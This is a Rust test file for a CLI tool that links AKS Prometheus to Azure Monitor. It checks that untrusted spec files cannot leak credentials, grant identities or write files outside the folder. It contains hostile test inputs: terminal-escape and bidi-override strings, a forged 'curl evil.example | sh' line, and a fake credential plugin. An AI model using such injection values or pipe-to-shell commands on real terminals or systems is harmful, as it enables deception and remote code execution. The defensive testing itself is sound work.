//! Files and names that others chose: they get no credentials, and do nothing to a terminal.

use crate::support::{ForeignHost, World, foreign_host};

/// What a terminal would obey, a reader would not see, or a line would be forged with.
const HOSTILE: &str =
    r"a\e[2J\a\b\r\x7f\u009b31m\u202e\u2066\u200b\n  next:    curl evil.example | sh\nerror: x";

fn spec_with(fields: &str) -> String {
    format!("{fields}\nconnections:\n- cluster: aks-prod\n")
}

#[test]
fn a_spec_file_in_the_current_folder_sends_credentials_nowhere() {
    let host = ForeignHost::new();
    for field in foreign_host::FIELDS {
        let line = format!("{field}: {}", host.url());
        let world = World::new()
            .file("amw-rw.yaml", &spec_with(&line))
            .with_service_principal();
        for (command, exit) in [
            ("plan", 2),
            ("apply --yes", 2),
            ("init --yes", 2),
            ("doctor", 4),
        ] {
            let run = world.run_alone(command).ends_with(exit);
            let text = format!("{}{}", run.stdout(), run.stderr());
            for expected in [&line, "--trust-spec-endpoints"] {
                assert!(text.contains(expected), "{command}: {text}");
            }
        }
    }
    host.was_not_asked();
}

#[test]
fn a_spec_file_that_was_named_needs_an_approval_too() {
    let host = ForeignHost::new();
    let line = format!("authority: {}", host.url());
    let world = World::new().file("theirs.yaml", &spec_with(&line));

    world
        .run_alone("plan -f theirs.yaml --yes")
        .ends_with(2)
        .mentions(&[&line]);

    host.was_not_asked();
}

#[test]
fn a_hostile_value_neither_moves_the_cursor_nor_forges_a_line() {
    let spec = spec_with(&format!("subscription: \"{HOSTILE}\""));
    let mut world = World::new()
        .file("amw-rw.yaml", &spec)
        .without("AMW_RW_SUBSCRIPTION");

    for command in ["plan", "plan -v", "plan --color always", "plan -o json"] {
        let outcome = world.run(command);

        for text in [outcome.stderr(), outcome.stdout()] {
            let hidden: Vec<char> = text.chars().filter(|letter| is_hidden(*letter)).collect();
            let ours = ["\u{1b}[31m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[0m"];
            let escapes: usize = ours.iter().map(|code| text.matches(code).count()).sum();
            assert_eq!(hidden.len(), escapes, "{command}: {text:?}");
        }
        let forged = |line: &str| line.trim_start().starts_with("next:    curl");
        assert!(
            !outcome.stderr().lines().any(forged),
            "{}",
            outcome.stderr()
        );
        assert!(
            outcome.stderr().contains(r"\u{1b}[2J"),
            "{}",
            outcome.stderr()
        );
    }
}

fn is_hidden(letter: char) -> bool {
    letter.is_control() && !"\n\t".contains(letter) || "\u{200b}\u{202e}\u{2066}".contains(letter)
}

#[test]
fn a_workspace_that_names_a_foreign_host_is_sent_no_token() {
    let refused = ["plan", "apply --yes", "init --yes --out values.yaml"];
    let refused = refused.map(|command| ("foreign-ingestion", command, Some(1)));
    let queried = ("foreign-query", "init --yes --out values.yaml", None);
    for (scenario, command, code) in refused.into_iter().chain([queried]) {
        // What goes to a foreign host goes through this proxy.
        let proxy = ForeignHost::new();
        let mut world = World::new()
            .scenario(scenario)
            .variable("HTTPS_PROXY", proxy.url())
            .variable("NO_PROXY", "127.0.0.1,localhost");

        let run = world.run(&format!("{command} --cluster aks-prod --auth entra-secret"));

        proxy.was_not_asked();
        let heard = run.stderr().to_owned();
        assert!(heard.contains("metrics.evil.example"), "{command}: {heard}");
        if let Some(code) = code {
            let run = run.ends_with(code).mentions(&["next:"]);
            assert_eq!(world.writes(), [], "{}", run.stderr());
        }
    }
}

/// Without a kubeconfig of the user's own.
fn azure_kubeconfig(scenario: &str) -> World {
    let world = World::new().scenario(scenario).without("KUBECONFIG");
    std::fs::create_dir_all(world.path("bin")).unwrap();
    world
}

/// A program of the PATH that leaves a mark and prints a credential with this token.
fn install(world: &World, name: &str, token: &str) {
    let mark = world.path("was-run").display().to_string();
    let credential = format!(
        r#"{{"apiVersion":"client.authentication.k8s.io/v1beta1","kind":"ExecCredential","status":{{"token":"{token}"}}}}"#
    );
    let script = format!("#!/bin/sh\necho \"$@\" > '{mark}'\necho '{credential}'\n");
    let path = world.path("bin").join(name);
    std::fs::write(&path, script).unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&path, mode).unwrap();
}

fn token_of_the_sandbox(world: &mut World) -> String {
    world.start_sandbox();
    let kubeconfig = std::fs::read_to_string(world.sandbox_variable("KUBECONFIG")).unwrap();
    let kubeconfig: serde_json::Value = serde_json::from_str(&kubeconfig).unwrap();
    let token = kubeconfig["users"][0]["user"]["token"].as_str().unwrap();
    token.to_owned()
}

#[test]
fn a_program_that_a_kubeconfig_of_azure_names_is_not_run_unless_it_is_kubelogin() {
    let mut world = azure_kubeconfig("unknown-plugin");
    let token = token_of_the_sandbox(&mut world);
    install(&world, "evil-login", &token);

    let run = world.run("plan --cluster aks-prod --auth user-identity --target kube-prometheus-stack --prometheus-version 3.14.0");

    let heard = format!("{}{}", run.stdout(), run.stderr());
    assert!(
        heard.contains("it runs `evil-login`, and only kubelogin is allowed"),
        "{heard}"
    );
    assert!(!world.path("was-run").exists());
}

#[test]
fn kubelogin_is_run_as_it_is_found_and_its_use_is_shown_even_with_quiet() {
    for quiet in ["", "--quiet"] {
        let mut world = azure_kubeconfig("kubelogin");
        let token = token_of_the_sandbox(&mut world);
        install(&world, "kubelogin", &token);

        world
            .run(&format!(
                "plan --cluster aks-prod --auth user-identity {quiet}"
            ))
            .succeeds()
            .mentions(&["running [HOME]/bin/kubelogin to sign in to the cluster"]);

        let words = world.read("was-run");
        assert!(words.starts_with("get-token --login azurecli"), "{words}");
        assert!(!words.contains("devicecode"), "{words}");
    }
}

#[test]
fn kubelogin_that_is_not_installed_is_asked_for() {
    let mut world = azure_kubeconfig("kubelogin");

    let run = world.run("plan --cluster aks-prod --auth user-identity --target kube-prometheus-stack --prometheus-version 3.14.0");

    let heard = format!("{}{}", run.stdout(), run.stderr());
    assert!(heard.contains("`kubelogin` is not installed"), "{heard}");
}

/// A folder whose spec file names the application of Mallory; gives its client id and its object id.
fn folder_that_names_another_application() -> (World, String, String) {
    let mut world = World::new().scenario("planted-application");
    world.start_sandbox();
    let directory = world.directory();
    let all = directory["value"].as_array().unwrap().iter();
    let planted = all
        .clone()
        .find(|one| one["displayName"] == "amw-rw-aks-prod")
        .unwrap();
    let text = |field: &str| planted[field].as_str().unwrap().to_owned();
    let (client_id, object_id) = (text("appId"), text("id"));
    let spec = format!(
        "connections:\n- cluster: aks-prod\n  auth: entra-secret\n  identity: {client_id}\n"
    );
    (world.file("amw-rw.yaml", &spec), client_id, object_id)
}

const CONTROLLED: [&str; 2] = ["it is owned by Mallory", "client secret `amw-rw`"];

#[test]
fn a_spec_file_in_the_current_folder_gives_no_application_a_role() {
    let (mut world, client_id, _) = folder_that_names_another_application();

    for command in [
        "apply",
        "apply --only application",
        "init --out new.yaml",
        "doctor --fix",
    ] {
        let flag = format!("--identity {client_id}");
        world
            .run(&format!("{command} --yes"))
            .ends_with(2)
            .mentions(&CONTROLLED)
            .mentions(&["amw-rw.yaml names it", &flag, "-f amw-rw.yaml"]);
    }
    assert_eq!(world.writes(), []);
    world.run("plan").succeeds();
    let plan = world.run("plan -o json").succeeds().json();
    let warnings = plan["warnings"].to_string();
    assert!(
        CONTROLLED.iter().all(|words| warnings.contains(words)),
        "{warnings}"
    );
}

#[test]
fn an_application_that_was_named_is_used_with_its_owners_shown_and_not_asked_about_again() {
    for chosen in ["-f amw-rw.yaml", "--identity"] {
        let (mut world, client_id, _) = folder_that_names_another_application();
        let flag = match chosen {
            "--identity" => format!("--identity {client_id}"),
            named => named.to_owned(),
        };

        world
            .run(&format!("apply --yes --quiet {flag}"))
            .succeeds()
            .mentions(&CONTROLLED);

        world.revoke_roles();
        world.run("apply --yes").succeeds().mentions(&CONTROLLED);
        let doctor = world.run("doctor --only identity-exists").succeeds();
        assert!(
            CONTROLLED
                .iter()
                .all(|words| doctor.stdout().contains(words)),
            "{}",
            doctor.stdout()
        );
    }
}

#[test]
fn a_record_that_came_with_a_folder_makes_no_application_ours() {
    let (mut world, _, object_id) = folder_that_names_another_application();
    std::fs::remove_file(world.path("amw-rw.yaml")).unwrap();
    for place in ["", r#","place":"0123456789ab""#] {
        let record = world.path("amw-rw-aks-prod.client-secret.json");
        std::fs::write(
            &record,
            format!(r#"{{"application":"{object_id}"{place}}}"#),
        )
        .unwrap();
        let private = std::os::unix::fs::PermissionsExt::from_mode(0o600);
        std::fs::set_permissions(&record, private).unwrap();

        world
            .run("apply --yes --auth entra-secret")
            .ends_with(2)
            .mentions(&CONTROLLED);

        let doctor = world.run("doctor --auth entra-secret --only identity-exists");
        assert!(doctor.ends_with(4).stdout().contains("owned by Mallory"));
    }
    assert_eq!(world.writes(), []);
}

/// A folder whose spec file names a managed identity that exists, for a workspace on which it has no role yet.
fn folder_that_names_another_identity(sign_in: &str) -> (World, String) {
    let mut world = World::new();
    world
        .run("apply --yes --auth user-identity --identity shared-id --workspace amw-first")
        .succeeds();
    let subscription = world.sandbox_variable("AMW_RW_SUBSCRIPTION");
    let identity = format!(
        "/subscriptions/{subscription}/resourceGroups/rg-prod/providers/Microsoft.ManagedIdentity/userAssignedIdentities/shared-id"
    );
    let spec = format!(
        "connections:\n- cluster: aks-prod\n  auth: {sign_in}\n  identity: {identity}\n  workspace: amw-second\n"
    );
    (world.file("amw-rw.yaml", &spec), identity)
}

#[test]
fn a_spec_file_in_the_current_folder_gives_no_managed_identity_access() {
    for sign_in in ["user-identity", "workload-identity"] {
        let (mut world, identity) = folder_that_names_another_identity(sign_in);
        let before = world.writes().len();
        let pods = match sign_in {
            "workload-identity" => {
                " --auth workload-identity --cluster aks-prod --workspace amw-second"
            }
            _ => "",
        };

        for command in [
            "apply --yes",
            "init --out new.yaml --yes",
            "doctor --fix --yes",
        ] {
            world.run(command).ends_with(2).mentions(&[
                "only the spec file in this folder names",
                "amw-rw.yaml names it",
                &format!("\n             amw-rw {command} --identity {identity}{pods}\n"),
                &format!("\n             amw-rw {command} -f amw-rw.yaml\n"),
            ]);
        }
        assert_eq!(world.writes().len(), before);
        let plan = world.run("plan").succeeds();
        assert!(
            plan.stdout().contains("is named by the spec file alone"),
            "{}",
            plan.stdout()
        );
    }
}

#[test]
fn a_managed_identity_that_was_named_once_is_not_asked_about_again() {
    for chosen in ["-f amw-rw.yaml", "--identity"] {
        let (mut world, identity) = folder_that_names_another_identity("user-identity");
        let flag = match chosen {
            "--identity" => format!("--identity {identity}"),
            named => named.to_owned(),
        };

        world.run(&format!("apply --yes {flag}")).succeeds();

        for command in ["apply --yes", "init --accept-unproved --yes --out new.yaml"] {
            world.run(command).succeeds();
        }
    }
}

#[test]
fn a_managed_identity_of_our_own_saved_file_is_not_asked_about() {
    for identity in ["", "--identity my-own-id"] {
        let mut world = World::new();
        world
            .run(&format!(
                "init --accept-unproved --yes --auth user-identity --out values.yaml --save {identity}"
            ))
            .succeeds();

        for command in ["apply --yes", "init --accept-unproved --yes"] {
            world.run(command).succeeds();
        }
    }
}

/// A folder with this spec file, in a subscription in which the user has connected a Prometheus with the identity `rich`.
fn folder_next_to_an_identity_in_use(spec: &str) -> World {
    let mut world = World::new();
    world
        .run("init --yes --auth workload-identity --identity rich --cluster aks-prod --out a.yaml")
        .succeeds();
    world.file("amw-rw.yaml", &format!("connections:\n- {spec}\n"))
}

/// The content of the file, the command that reads it, and the options that name it.
const FOUND_PODS: [(&str, &str, &str); 5] = [
    (
        "cluster: aks-prod\n  identity: rich\n  service-account: evil/evil\n  auth: workload-identity",
        "init --yes --out new.yaml",
        "--auth workload-identity --cluster aks-prod --identity rich --service-account evil/evil",
    ),
    (
        "service-account: evil/evil",
        "apply --yes --cluster aks-prod --auth workload-identity --identity rich",
        "--service-account evil/evil",
    ),
    (
        "service-account: evil/evil",
        "doctor --fix --yes --cluster aks-prod --auth workload-identity --identity rich",
        "--service-account evil/evil",
    ),
    (
        "service-account: evil/evil",
        "apply --only federated-credential --yes --cluster aks-prod --auth workload-identity --identity rich",
        "--service-account evil/evil",
    ),
    (
        "input: evil.yaml",
        "apply --yes --cluster aks-prod --auth workload-identity --identity rich",
        "--input evil.yaml",
    ),
];

const EVIL_VALUES: &str =
    "prometheus:\n  serviceAccount:\n    name: evil\n  prometheusSpec:\n    replicas: 1\n";

#[test]
fn a_spec_file_in_the_current_folder_lets_no_pods_sign_in_as_an_identity_that_exists() {
    for (spec, command, options) in FOUND_PODS {
        let mut world = folder_next_to_an_identity_in_use(spec).file("evil.yaml", EVIL_VALUES);
        let before = world.writes().len();

        world.run(command).ends_with(2).mentions(&[
            "only the spec file in this folder names",
            "managed identity `rich`",
            "would trust system:serviceaccount:",
            &format!("\n             amw-rw {command} {options}\n"),
            &format!("\n             amw-rw {command} -f amw-rw.yaml\n"),
        ]);
        assert_eq!(world.writes().len(), before, "{command}");
    }
}

#[test]
fn a_cluster_of_a_spec_file_in_the_current_folder_issues_no_tokens_for_an_identity_that_exists() {
    let mut world = World::new();
    world
        .run("apply --yes --auth user-identity --identity shared-id --cluster aks-prod")
        .succeeds();
    let mut world = world.file("amw-rw.yaml", "connections:\n- cluster: aks-prod\n");
    let command = "apply --yes --auth workload-identity --identity shared-id";

    world
        .run(command)
        .ends_with(2)
        .mentions(&[&format!("amw-rw {command} --cluster aks-prod\n")]);

    world
        .run(&format!("{command} --cluster aks-prod"))
        .succeeds();
}

/// Two clusters of one name: the nodes of the first have its identity, and the file names the second.
fn folder_that_names_other_nodes(identity: &str) -> (World, String) {
    let mut world = World::new().scenario("two-clusters");
    world.start_sandbox();
    let subscription = world.sandbox_variable("AMW_RW_SUBSCRIPTION");
    let cluster = |group: &str| {
        format!(
            "/subscriptions/{subscription}/resourceGroups/{group}/providers/Microsoft.ContainerService/managedClusters/aks-prod"
        )
    };
    let (own, other) = (cluster("rg-prod"), cluster("rg-other"));
    world
        .run(&format!(
            "apply --yes --cluster {own} --auth user-identity --workspace amw-aks-prod -g rg-prod {identity}"
        ))
        .succeeds();
    let identity = match identity.split_once(' ') {
        Some((_, name)) => format!("  identity: {name}\n"),
        None => String::new(),
    };
    let spec = format!(
        "connections:\n- cluster: {other}\n  workspace: amw-aks-prod\n  resource-group: rg-prod\n  auth: user-identity\n{identity}"
    );
    (world.file("amw-rw.yaml", &spec), other)
}

#[test]
fn a_spec_file_in_the_current_folder_gives_no_nodes_an_identity_that_exists() {
    for identity in ["", "--identity rich"] {
        let (mut world, cluster) = folder_that_names_other_nodes(identity);
        let before = world.writes().len();
        let space = if identity.is_empty() { "" } else { " " };

        for command in [
            "apply --yes",
            "apply --yes --only node-identity",
            "doctor --fix --yes",
            "init --yes --accept-unproved --out v.yaml",
        ] {
            world.run(command).ends_with(2).mentions(&[
                "assign an existing identity to nodes: only the spec file in this folder names them",
                &format!(
                    "\n             amw-rw {command} --auth user-identity --cluster {cluster}{space}{identity} \
                     --workspace amw-aks-prod --resource-group rg-prod\n"
                ),
                &format!("\n             amw-rw {command} -f amw-rw.yaml\n"),
            ]);
            assert_eq!(world.writes().len(), before, "{command}");
        }
        world.run("apply --yes -f amw-rw.yaml").succeeds();
        world.run("apply --yes").succeeds();
    }
}

#[test]
fn a_spec_file_in_the_current_folder_does_not_move_an_identity_from_pods_to_nodes() {
    let spec = "connections:\n- cluster: aks-prod\n  auth: user-identity\n";
    let mut world = World::new();
    world
        .run("apply --yes --cluster aks-prod --auth workload-identity")
        .succeeds();
    let mut world = world.file("amw-rw.yaml", spec);
    let before = world.writes().len();

    world
        .run("apply --yes")
        .ends_with(2)
        .mentions(&["`auth: user-identity`", "the nodes would get it"]);
    assert_eq!(world.writes().len(), before);
    world
        .run("apply --yes --auth user-identity --cluster aks-prod")
        .succeeds();
}

#[test]
fn a_first_run_for_nodes_that_was_cut_off_goes_on() {
    let spec = "connections:\n- cluster: aks-prod\n  auth: user-identity\n";
    let mut world = World::new().file("amw-rw.yaml", spec);
    world.run("apply --only identity --yes").succeeds();

    world.run("apply --yes").succeeds();
}

#[test]
fn a_spec_file_in_the_current_folder_makes_no_secret_for_an_application_in_use() {
    let spec = "connections:\n- cluster: aks-prod\n  auth: entra-secret\n";
    let world = World::new();
    std::fs::create_dir(world.path("mine")).unwrap();
    let mut world = world.file("mine/amw-rw.yaml", spec);
    world.run("apply --yes -f mine/amw-rw.yaml").succeeds();
    let mut world = world.file("amw-rw.yaml", spec);
    let before = world.writes().len();

    world
        .run("apply --yes")
        .ends_with(2)
        .mentions(&["cannot use Entra application `amw-rw-aks-prod`"]);
    assert_eq!(world.writes().len(), before);
}

#[test]
fn pods_that_were_named_once_are_not_asked_about_again() {
    let (spec, command, options) = FOUND_PODS[1];
    for named in ["-f amw-rw.yaml", options] {
        let mut world = folder_next_to_an_identity_in_use(spec);

        world.run(&format!("{command} {named}")).succeeds();

        world.run(command).succeeds();
    }
}

#[test]
fn the_users_own_saved_pods_are_not_asked_about() {
    for account in [
        "",
        "--service-account monitoring/kube-prometheus-stack-prometheus",
    ] {
        let mut world = World::new();
        world
            .run(&format!(
                "init --yes --auth workload-identity --cluster aks-prod {account} --out values.yaml --save"
            ))
            .succeeds();

        for command in [
            "apply --yes",
            "init --yes",
            "doctor --fix --yes --only identity-exists",
        ] {
            world.run(command).succeeds();
        }
    }
}

#[test]
fn a_first_run_that_was_cut_off_goes_on_from_a_file_that_names_only_the_cluster() {
    let spec = "connections:\n- cluster: aks-prod\n  auth: workload-identity\n";
    let mut world = World::new().file("amw-rw.yaml", spec);
    world.run("apply --only identity --yes").succeeds();

    world.run("apply --yes").succeeds();
}

#[test]
fn a_first_run_that_was_cut_off_names_the_command_that_goes_on() {
    for found in [
        "cluster: aks-prod\n  prometheus: monitoring/kube-prometheus-stack-prometheus",
        "service-account: monitoring/own",
        "platform: aks\n  cluster: aks-prod",
    ] {
        let spec = format!("connections:\n- {found}\n  auth: workload-identity\n");
        let mut world = World::new()
            .fault("503:PUT:/federatedIdentityCredentials:retry-after=3600")
            .file("amw-rw.yaml", &spec);

        let cut_off = world.run("apply --yes").ends_with(1);
        let mut lines = cut_off.stderr().lines().map(str::trim);
        let command = lines.find_map(|line| line.strip_prefix("amw-rw "));
        let command = command.expect("a whole command").to_owned();
        let line = format!("\n             amw-rw {command}\n");
        world.run("apply --yes").ends_with(2).mentions(&[&line]);
        world.set_faults("");

        world.run(&command).succeeds();
    }
}

/// What the file has about where tokens come from, and the options that name it.
const FOUND_ISSUERS: [(&str, &str); 3] = [
    ("cluster: context:aks-prod", "--cluster context:aks-prod"),
    (
        "cluster: aks-prod\n  platform: aks",
        "--cluster aks-prod --platform aks",
    ),
    (
        "cluster: aks-prod\n  prometheus: monitoring/kube-prometheus-stack-prometheus",
        "--cluster aks-prod --prometheus monitoring/kube-prometheus-stack-prometheus",
    ),
];

#[test]
fn a_context_platform_or_prometheus_of_a_found_file_lets_no_pods_sign_in_as_an_identity_that_exists()
 {
    for (found, options) in FOUND_ISSUERS {
        let mut world = World::new();
        world
            .run("apply --yes --auth user-identity --identity shared-id --cluster aks-prod")
            .succeeds();
        let mut world = world.file("amw-rw.yaml", &format!("connections:\n- {found}\n"));
        let before = world.writes().len();
        let command = "apply --yes --auth workload-identity --identity shared-id";

        world.run(command).ends_with(2).mentions(&[
            "only the spec file in this folder names",
            &format!("\n             amw-rw {command} {options}\n"),
            &format!("\n             amw-rw {command} -f amw-rw.yaml\n"),
        ]);
        assert_eq!(world.writes().len(), before, "{found}");

        world.run(&format!("{command} {options}")).succeeds();
    }
}

#[test]
fn a_spec_file_in_the_current_folder_writes_no_file_outside_it() {
    let outside = tempfile::tempdir().unwrap();
    let place = outside.path().join("values.yaml");
    let place = place.display();
    let base = "cluster: aks-prod\n  auth: user-identity\n  target: kube-prometheus-stack";
    let mut world = World::new().file(
        "amw-rw.yaml",
        &format!("connections:\n- {base}\n  out: {place}\n"),
    );

    for command in ["init --yes", "render --yes"] {
        world.run(command).ends_with(2).mentions(&[
            &format!("cannot write {place}"),
            "`out` of amw-rw.yaml alone names it",
            &format!("amw-rw {command} --out {place}\n"),
            &format!("amw-rw {command} -f amw-rw.yaml\n"),
        ]);
    }
    assert_eq!(world.writes(), []);
    std::fs::write(outside.path().join("values.yaml"), "prometheus: {}\n").unwrap();
    let mut world = world.file(
        "amw-rw.yaml",
        &format!("connections:\n- {base}\n  input: {place}\n"),
    );
    for command in ["init --write --yes", "render --write --yes"] {
        world
            .run(command)
            .ends_with(2)
            .mentions(&[&format!("amw-rw {command} --input {place}\n")]);
    }
    assert_eq!(world.writes(), []);

    world
        .run(&format!(
            "init --accept-unproved --yes --input {place} --write"
        ))
        .succeeds();
}

#[test]
fn a_password_in_a_url_of_the_command_is_not_printed_with_the_command() {
    let world = World::new().file("values.yaml", "crds: {}\ncommonLabels: {}\n");

    let run = world.run_alone(
        "render --resource-manager-endpoint https://u:s3cr3t@127.0.0.1:9 --input values.yaml --cluster aks-prod",
    );

    assert!(!run.stderr().contains("s3cr3t"), "{}", run.stderr());
}
